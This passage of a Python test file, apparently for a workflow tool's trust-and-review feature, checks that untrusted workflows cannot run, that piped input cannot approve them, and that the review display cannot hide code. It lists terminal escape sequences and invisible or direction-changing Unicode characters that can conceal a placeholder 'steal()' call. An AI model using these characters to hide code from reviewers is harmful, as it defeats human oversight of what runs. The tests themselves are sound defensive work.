        other.write_text(document(one("core.python", CODE), "other"))
        home.trust(one_file, home.review(one_file).sha256, reach="file")
        with pytest.raises(Untrusted):
            home.run(other)
        check_no_trace(home)

    def test_an_answer_from_standard_input_is_none(self, home: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
        import io
        import sys

        path = home.root / "gift.flow.yaml"
        path.write_text(document(one("core.python", CODE)))
        monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"v\nf\na\ny\nyes\n" * 10)))
        monkeypatch.setattr("flowbook.cli.trust.TERMINAL", "/nonexistent/tty")
        assert command(["trust", str(path)]) == 3
        with pytest.raises(Untrusted):
            home.run(path)

    @pytest.mark.parametrize(
        "hidden",
        [
            "\x1b]0;title\x07", "\x1b[2J", "\u202e", "\r", "\x9b31m", "\u2066", "\x08",
            # What shows nothing: names of Hangul fillers, data in variation selectors and tags, blank braille.
            "\u3164", "\uffa0", "\u115f", "\ufe01", "\U000e0101", "\U000e0041", "\u034f", "\u2800", "\u200b",
        ],
    )  # fmt: skip
    def test_what_is_looked_at_cannot_hide_itself(self, home: Workspace, hidden: str) -> None:
        nodes = one("core.python", {"code": f"steal()  # {hidden} harmless"})
        path = home.root / "gift.flow.yaml"
        text = json.dumps(
            {"flowbook": 1, "name": "gift", "nodes": nodes}
        )  # YAML has no pairs of escapes for one letter
        path.write_text(re.sub(r"(?:\\ud[89a-f]..)+", lambda found: json.loads(f'"{found[0]}"'), text))
        shown = str(home.review(path))
        assert hidden not in shown
        assert "steal()" in shown
